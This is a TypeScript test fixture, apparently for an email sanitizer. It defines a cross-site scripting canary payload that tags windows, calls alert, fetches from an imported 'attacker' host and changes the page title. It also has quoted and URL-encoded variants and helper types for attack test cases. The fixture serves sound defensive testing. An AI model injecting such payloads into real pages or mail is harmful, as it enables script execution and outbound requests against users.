import { attacker } from './canary.fixture.js';

/** What a script of an attack does, so that it would be seen: a mark on every window it can reach, a question, a request. */
export const strike = `for(const w of [window,parent,top])try{w.document.documentElement.dataset.struck='yes'}catch(e){};try{alert(1)}catch(e){};try{fetch('${attacker}/script')}catch(e){};try{document.title='struck'}catch(e){}`;

/** To stand between double quotes. */
export const quoted = strike.replaceAll('"', '&quot;');

/** To stand in an address. */
export const encoded = encodeURIComponent(strike);

export interface Attack {
  readonly what: string;
  readonly html: string;
  /** What follows it in a mail may be swallowed by it, or what stands beside it covered. */
  readonly place?: 'last' | 'alone';
  /** The charset that the mail claims; its bytes are ASCII then. */
  readonly charset?: string;
  /** Comes with a drawing of its own, that it shows by its content id. */
  readonly picture?: string;
}

export function attack(what: string, html: string): Attack {
  return { what, html };
}

export function lastAttack(what: string, html: string): Attack {
  return { what, html, place: 'last' };
}

export function loneAttack(what: string, html: string, charset?: string): Attack {
  return { what, html, place: 'alone', ...(charset !== undefined && { charset }) };
}
